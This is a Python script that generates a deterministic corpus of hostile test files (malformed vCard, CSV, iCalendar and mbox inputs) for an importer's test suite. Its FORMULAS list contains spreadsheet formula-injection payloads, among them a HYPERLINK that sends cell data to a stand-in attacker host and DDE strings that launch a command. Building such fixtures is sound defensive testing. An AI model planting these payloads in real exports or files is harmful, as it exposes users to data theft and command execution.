"""Write the hostile-input corpus of tests/data/hostile/ (small files; huge ones are made by
the tests at run time). Deterministic: run it again and git sees no change.

    .venv/bin/python scripts/make-hostile-files.py
"""

from __future__ import annotations

import random
from pathlib import Path

OUT = Path(__file__).resolve().parents[1] / "tests" / "data" / "hostile"
rng = random.Random(8)

NOTES = (
    'Notes:\r\n"When exporting your connection data, you may notice that some of the email '
    'addresses are missing."\r\n\r\n'
)
FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1"]  # fmt: skip


def files() -> dict[str, bytes]:
    binary = bytes(rng.randrange(256) for _ in range(4096))
    return {
        "binary.vcf": binary,
        "binary.csv": binary,
        "binary.ics": binary,
        "binary.mbox": b"From x@example.com Mon Mar  2 17:04:11 2026\n" + binary,
        "empty.csv": b"",
        "empty.mbox": b"",
        "nul-bytes.vcf": b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Nul\x00Name\r\nEND:VCARD\r\n",
        "invalid-utf8.vcf": (
            b"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Bad \xc3\x28 Bytes\r\n"
            b"EMAIL:bad\xff@example.com\r\nEND:VCARD\r\n"
        ),
        "invalid-utf8.csv": (
            b"First Name,Last Name,Labels,E-mail 1 - Label,E-mail 1 - Value\r\n"
            b"Ok,Person,* myContacts,,ok@example.com\r\nBad \xe9\xff\xfe,Person,,,\r\n"
        ),
        "invalid-utf8.ics": (
            b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:bad-1\r\n"
            b"DTSTART:20260301T100000Z\r\nSUMMARY:Caf\xe9 \xff\xfe\r\n"
            b"ATTENDEE;CN=Ann:mailto:ann@example.com\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
        ),
        "invalid-utf8.mbox": (
            b"From ann@example.com Mon Mar  2 17:04:11 2026\nFrom: Ann \xff\xfe <ann@example.com>\n"
            b"To: dana@example.com\nDate: Mon, 2 Mar 2026 17:04:11 +0000\n"
            b"Subject: \xc3\x28 broken\n\nBody \xff\n\n"
        ),
        "nested.ics": (
            b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"
            + b"BEGIN:VEVENT\r\nUID:n\r\nDTSTART:20260301T100000Z\r\n" * 3000
            + b"END:VEVENT\r\n" * 3000
            + b"END:VCALENDAR\r\n"
        ),
        "nested.vcf": b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Outer\r\n" * 3000
        + b"END:VCARD\r\n" * 3000,
        "nested.mbox": _nested_mail(400),
        "long-line.vcf": b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:"
        + b"x" * 300_000
        + b"\r\nEND:VCARD\r\n",
        "folded-forever.vcf": b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:A\r\n"
        + b" b\r\n" * 20_000
        + b"END:VCARD\r\n",
        "formula-google.csv": _formula_google(),
        "formula-Connections.csv": _formula_connections(),
        "formula.vcf": _formula_vcards(),
        "utf16-no-bom.csv": "First Name,Labels,E-mail 1 - Value\r\nAnn,,ann@example.com\r\n".encode(
            "utf-16-le"
        ),
        "zip-bomb-ish.csv": b"First Name,Last Name,Labels\r\n" + b"," * 200_000 + b"\r\n",
    }


def _nested_mail(depth: int) -> bytes:
    inner = b"Subject: innermost\n\nhello\n"
    for n in range(depth):
        inner = b"Content-Type: message/rfc822\nSubject: level " + str(n).encode() + b"\n\n" + inner
    head = (
        b"From ann@example.com Mon Mar  2 17:04:11 2026\nFrom: Ann <ann@example.com>\n"
        b"To: dana@example.com\nDate: Mon, 2 Mar 2026 17:04:11 +0000\nMIME-Version: 1.0\n"
    )
    return head + inner + b"\n"


def _formula_vcards() -> bytes:
    cards = []
    for n, f in enumerate(FORMULAS):
        text = f.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;")
        cards.append(
            f"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:{text}\r\nN:Formula{n};Zed;;;\r\n"
            f"ORG:{text}\r\nNOTE:{text}\r\nEND:VCARD\r\n"
        )
    return "".join(cards).encode()


def _formula_google() -> bytes:
    lines = [
        "First Name,Last Name,Organization Name,Notes,Labels,E-mail 1 - Label,E-mail 1 - Value"
    ]
    for n, f in enumerate(FORMULAS):
        cell = '"' + f.replace('"', '""') + '"'
        lines.append(f"{cell},Formula{n},{cell},{cell},{cell},* Home,f{n}@example.com")
    return ("\r\n".join(lines) + "\r\n").encode()


def _formula_connections() -> bytes:
    lines = [NOTES + "First Name,Last Name,URL,Email Address,Company,Position,Connected On"]
    for n, f in enumerate(FORMULAS):
        cell = '"' + f.replace('"', '""') + '"'
        lines.append(f"{cell},Formula{n},,c{n}@example.com,{cell},{cell},01 Mar 2026")
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    for name, data in files().items():
        (OUT / name).write_bytes(data)
    print(f"wrote {len(files())} files to {OUT}")


if __name__ == "__main__":
    main()
